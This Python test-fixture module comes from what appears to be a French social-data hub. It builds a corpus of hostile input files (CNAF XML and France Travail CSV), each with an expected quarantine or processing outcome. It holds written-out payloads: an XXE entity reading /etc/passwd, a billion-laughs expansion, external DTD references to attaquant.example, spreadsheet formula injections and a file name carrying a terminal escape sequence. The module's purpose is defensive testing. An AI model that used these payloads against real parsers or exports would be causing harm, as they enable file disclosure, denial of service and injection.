"""The hostile corpus: what a partner (or an attacker) may drop into the hub, and what the hub must do with it.

Each case builds its file from a valid one (so that only the hostile part differs) and states the expected
outcome: ``quarantaine`` (the whole file is refused with a clear reason, quarantined, the sender notified) or
``termine`` (the file is processed: so many records read, so many rejected with a readable reason, the others
delivered). Large inputs are built at test time rather than committed. The cases are run through the real
pipeline by tests/test_hostile.py; docs/exploitation.md lists them for operators.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
FT_SAMPLE = REPO / "tests" / "fixtures" / "france_travail" / "FT_inscriptions_052_202611.csv"
CAF_FLOW, FT_FLOW = "caf-vers-departement", "france-travail-vers-departement"


def caf_base() -> bytes:
    """A valid CNAF flux of 6 households, generated (synthetic people)."""
    from spie_hub.demo.data import generate

    path = Path(__import__("tempfile").mkdtemp()) / "base.xml"
    generate(path, None, 6, seed=21, anomaly_rate=0, reference=dt.date(2026, 11, 1))
    return path.read_bytes()


def ft_base() -> bytes:
    return FT_SAMPLE.read_bytes()


def _ft_lines() -> list[bytes]:
    return ft_base().split(b"\r\n")[:-1]


def _ft(*rows: bytes, header: bytes | None = None, ending: bytes = b"\r\n") -> bytes:
    lines = _ft_lines()
    return ending.join([header or lines[0], *lines[1:], *rows]) + ending


def _ft_row(**changes: str) -> bytes:
    """A copy of the first data row with some cells changed, and a person of its own (distinct NIR)."""
    header = _ft_lines()[0].decode().split(";")
    values = dict(zip(header, _ft_lines()[1].decode().split(";"), strict=True))
    values.update({"nir": "1840552121045", "identifiantpe": "7654321Z", "nom": "BERNARD"}, **changes)
    return ";".join(values[c] for c in header).encode()


def _billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE Racine [<!ENTITY lol0 "lol">{entities}]><Racine>&lol9;</Racine>').encode()


def _replace_first(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data, old
    return data.replace(old, new, 1)


def _after_declaration(data: bytes, insert: bytes) -> bytes:
    end = data.index(b"?>") + 2
    return data[:end] + insert + data[end:]


def _set_first(data: bytes, tag: bytes, value: bytes) -> bytes:
    start = data.index(b"<" + tag + b">") + len(tag) + 2
    return data[:start] + value + data[data.index(b"</" + tag + b">", start):]


def _first_text(data: bytes, tag: bytes) -> bytes:
    start = data.index(b"<" + tag + b">") + len(tag) + 2
    return data[start:data.index(b"</" + tag + b">", start)]


@dataclass(frozen=True)
class Case:
    id: str
    flow: str
    build: Callable[[], bytes]
    outcome: str  # "quarantaine" | "termine"
    words: str = ""  # expected in the quarantine reason, or in the rejection report / anomalies
    read: int | None = None  # records read (termine)
    rejected: int | None = None  # records rejected (termine)
    file_name: str | None = None


def _huge_text() -> bytes:
    data = caf_base()
    return _replace_first(data, b"<NOMVOIE>", b"<NOMVOIE>" + b"A" * (11 * 1024 * 1024))


CASES: list[Case] = [
    # -- XML (CNAF flux) --------------------------------------------------------------------------------------
    Case("xml-entite-externe", CAF_FLOW, lambda: _after_declaration(
        caf_base(), b'<!DOCTYPE Racine [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace(b"<APPLIEME>CRI", b"<APPLIEME>&xxe;CRI", 1),
        "quarantaine", "DOCTYPE"),
    Case("xml-billion-laughs", CAF_FLOW, _billion_laughs, "quarantaine", "DOCTYPE"),
    Case("xml-dtd-externe", CAF_FLOW, lambda: _after_declaration(
        caf_base(), b'<!DOCTYPE Racine SYSTEM "http://attaquant.example/flux.dtd">'), "quarantaine", "DOCTYPE"),
    Case("xml-dtd-apres-long-commentaire", CAF_FLOW, lambda: _after_declaration(
        caf_base(), b"<!--" + b" " * 20000 + b"-->" + b'<!DOCTYPE Racine [<!ENTITY a "b">]>'), "quarantaine", "DOCTYPE"),
    Case("xml-entite-parametre", CAF_FLOW, lambda: _after_declaration(
        caf_base(), b'<!DOCTYPE Racine [<!ENTITY % p SYSTEM "http://attaquant.example/p.dtd"> %p;]>'), "quarantaine", "DOCTYPE"),
    Case("xml-noeud-texte-enorme", CAF_FLOW, _huge_text, "quarantaine", ""),
    Case("xml-tronque", CAF_FLOW, lambda: caf_base()[: len(caf_base()) * 2 // 3], "quarantaine", ""),
    Case("xml-mauvaise-racine", CAF_FLOW, lambda: caf_base().replace(b"<Racine>", b"<Flux>").replace(b"</Racine>", b"</Flux>"),
         "quarantaine", ""),
    Case("xml-mauvaise-version", CAF_FLOW, lambda: caf_base().replace(b'version="1.0"', b'version="2.0"', 1), "quarantaine", ""),
    Case("xml-binaire", CAF_FLOW, lambda: bytes(range(256)) * 40, "quarantaine", ""),
    Case("xml-zero-octet", CAF_FLOW, lambda: b"", "quarantaine", "vide"),
    Case("xml-espaces-seulement", CAF_FLOW, lambda: b"   \n\t  \n", "quarantaine", ""),
    Case("xml-date-impossible", CAF_FLOW, lambda: caf_base().replace(b"<DTDEMRSA>2024-03-11", b"<DTDEMRSA>2024-02-30", 1),
         "quarantaine", ""),
    Case("xml-nir-invalide", CAF_FLOW, lambda: _replace_first(
        caf_base(), b"<NIR>" + _first_text(caf_base(), b"NIR") + b"</NIR>",
        b"<NIR>" + _first_text(caf_base(), b"NIR")[:3] + b"13" + _first_text(caf_base(), b"NIR")[5:] + b"</NIR>"),
        "termine", "mois de naissance", rejected=1),
    Case("xml-injection-formule", CAF_FLOW, lambda: _set_first(_set_first(caf_base(), b"NOMVOIE", b"=HYPERLINK(&quot;x&quot;)"),
                                                               b"NOM", b"@SUM(A1)"), "termine", "", rejected=0),
    # -- CSV (France Travail monthly flux) ---------------------------------------------------------------------
    Case("csv-latin1", FT_FLOW, lambda: ft_base().decode("utf-8").encode("latin-1"), "quarantaine", "UTF-8"),
    Case("csv-utf16", FT_FLOW, lambda: ft_base().decode("utf-8").encode("utf-16"), "quarantaine", "UTF-16"),
    Case("csv-bom-utf8", FT_FLOW, lambda: b"\xef\xbb\xbf" + ft_base(), "termine", "", read=4, rejected=0),
    Case("csv-fins-de-ligne-melangees", FT_FLOW, lambda: ft_base().replace(b"\r\n", b"\n", 2), "termine",
         "fins de ligne mélangées", read=4, rejected=0),
    Case("csv-separateur-virgule", FT_FLOW, lambda: ft_base().replace(b";", b","), "quarantaine", "séparateur « , »"),
    Case("csv-separateur-tabulation", FT_FLOW, lambda: ft_base().replace(b";", b"\t"), "quarantaine", "tabulation"),
    Case("csv-separateur-entre-guillemets", FT_FLOW, lambda: _ft(_ft_row(adresse='"12; RUE DU ""PORT"""')), "termine", "",
         read=5, rejected=0),
    Case("csv-guillemet-non-ferme", FT_FLOW, lambda: _ft(_ft_row(adresse='"12 RUE')), "quarantaine", "guillemet"),
    Case("csv-ligne-courte", FT_FLOW, lambda: _ft(b"1840552121045;7654321Z;BERNARD"), "termine", "3 colonne(s) au lieu de 13",
         read=5, rejected=1),
    Case("csv-ligne-longue", FT_FLOW, lambda: _ft(_ft_row() + b";en trop;encore"), "termine", "15 colonne(s) au lieu de 13",
         read=5, rejected=1),
    Case("csv-doublon", FT_FLOW, lambda: _ft(_ft_lines()[1]), "termine", "doublon", read=5, rejected=1),
    Case("csv-injection-formule", FT_FLOW, lambda: _ft(_ft_row(code="=1+2", motif="@SUM(A1)", ale="-2+3"),
                                                       _ft_row(nir="2840552121043", identifiantpe="7654322Z", code="+33")),
         "termine", "", read=6, rejected=0),
    Case("csv-nir-invalide", FT_FLOW, lambda: _ft(_ft_row(nir="1841352121045")), "termine", "mois de naissance", read=5, rejected=1),
    Case("csv-nir-lettres", FT_FLOW, lambda: _ft(_ft_row(nir="18405ABC21045")), "termine", "NIR", read=5, rejected=1),
    Case("csv-date-impossible", FT_FLOW, lambda: _ft(_ft_row(date="31/02/2026")), "termine", "date impossible", read=5, rejected=1),
    Case("csv-date-mauvais-format", FT_FLOW, lambda: _ft(_ft_row(dtnai="1984-05-01")), "termine", "JJ/MM/AAAA", read=5, rejected=1),
    Case("csv-identifiant-ft-invalide", FT_FLOW, lambda: _ft(_ft_row(identifiantpe="12AB")), "termine",
         "identifiant France Travail : format invalide", read=5, rejected=1),
    Case("csv-octet-nul", FT_FLOW, lambda: _ft(_ft_row(nom="BER\x00NARD")), "quarantaine", "NUL"),
    Case("csv-cellule-enorme", FT_FLOW, lambda: _ft(_ft_row(adresse="A" * 200_000)), "quarantaine", "Kio"),
    Case("csv-colonnes-manquantes", FT_FLOW, lambda: _ft(header=b"nir;nom;prenom"), "quarantaine", "colonnes manquantes"),
    Case("csv-zero-octet", FT_FLOW, lambda: b"", "quarantaine", "vide"),
    Case("csv-binaire", FT_FLOW, lambda: bytes(range(128, 256)) * 50, "quarantaine", "UTF-8"),
    Case("csv-en-tete-seul", FT_FLOW, lambda: _ft_lines()[0] + b"\r\n", "termine", "", read=0, rejected=0),
    # -- file names --------------------------------------------------------------------------------------------
    Case("nom-caracteres-de-controle", FT_FLOW, ft_base, "termine", "", read=4, rejected=0,
         file_name="FT_inscriptions\n\x1b[31m_052.csv"),
]
